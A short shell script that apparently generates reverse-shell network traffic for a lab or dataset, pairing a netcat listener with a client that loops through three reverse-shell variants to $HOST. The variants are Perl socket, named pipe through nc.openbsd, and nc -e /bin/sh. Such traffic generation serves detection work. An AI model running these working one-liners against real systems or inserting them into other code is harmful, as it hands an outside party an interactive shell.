# The same of other programs: Perl, a pipe through netcat, netcat-traditional.
# packages: perl netcat-openbsd netcat-traditional
# ip: 4
. /run/traffic/typed.sh
server() { while typed | timeout 7 nc.traditional -l -p "$PORT"; do :; done; }
client() {
	mkfifo pipe
	for i in 1 2 3 4 5 6 7; do
		case $((i % 3)) in
		0) timeout 6 perl -MSocket -e "socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in($PORT, inet_aton('$HOST')));
open(STDIN, '<&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec '/bin/sh -i'" ;;
		1) timeout 6 sh -c "sh -i <pipe 2>&1 | nc.openbsd '$HOST' $PORT >pipe" ;;
		2) timeout 6 nc.traditional -e "/bin/$(pick sh bash)" "$HOST" "$PORT" ;;
		esac
		sleep 0.3
	done
}
